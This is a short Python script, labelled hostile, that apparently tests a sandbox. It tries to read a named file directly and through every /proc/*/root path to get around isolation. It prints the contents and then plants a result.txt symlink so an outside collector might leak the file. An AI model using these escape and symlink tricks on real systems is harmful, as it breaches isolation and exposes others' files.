"""Hostile: reads another file of whoever runs it, by its name and by every way around."""

import glob
import os
import sys

path = sys.argv[1]
ways = [path, *(f"{root}{path}" for root in glob.glob("/proc/*/root"))]
reason: str | None = "no way to it"
for way in ways:
    try:
        with open(way) as file:
            print(file.read())
    except OSError as error:
        reason = error.strerror

# The last try: a link in the place of a result, for somebody outside to follow.
os.symlink(path, "result.txt")
sys.exit(f"{os.path.basename(path)}: {reason}")
